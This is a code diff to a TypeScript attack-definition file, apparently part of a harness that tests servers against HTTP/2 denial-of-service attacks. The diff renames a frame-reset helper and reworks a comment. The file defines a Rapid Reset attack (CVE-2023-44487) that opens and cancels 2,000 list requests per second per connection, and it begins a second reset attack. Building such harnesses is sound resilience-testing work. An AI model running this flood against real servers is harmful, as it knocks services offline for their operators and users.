@@ -1,14 +1,14 @@
 import type { Attack } from '../attack-definition.js';
 import type { Attacker } from '../attacker.js';
 import { ATTACKED_NAMESPACE, leasesOf, requestFields, TENANT_TOKEN } from '../identities.js';
-import { frame, resetStream, Type, windowUpdate } from '../wire/raw-frames.js';
+import { frame, reset, Type, windowUpdate } from '../../support/http2-frames.js';
 import type { RawHttp2 } from '../wire/raw-http2.js';
 
 const CONNECTIONS = 2;
 const PER_SECOND = 2000;
 const LIST = requestFields('GET', leasesOf(ATTACKED_NAMESPACE), TENANT_TOKEN);
 
-/** Opens streams and has them end before their answer, as fast as the rate, on new connections where the server ends one. */
+/** Opens streams and ends them before their response at the given rate, and opens a new connection whenever the server ends one. */
 async function openAndEnd(attacker: Attacker, endOf: (connection: RawHttp2, stream: number) => Buffer): Promise<void> {
   await attacker.lanes(CONNECTIONS, async () => {
     const connection = await attacker.http2();
@@ -28,7 +28,7 @@ async function openAndEnd(attacker: Attacker, endOf: (connection: RawHttp2, stre
 export const rapidReset: Attack = {
   name: 'rapid-reset',
   about: 'lists that are cancelled at once, 2,000 a second on each of 2 connections (CVE-2023-44487)',
-  run: (attacker) => openAndEnd(attacker, (_, stream) => resetStream(stream)),
+  run: (attacker) => openAndEnd(attacker, (_, stream) => reset(stream)),
 };
 
 export const madeYouReset: Attack = {
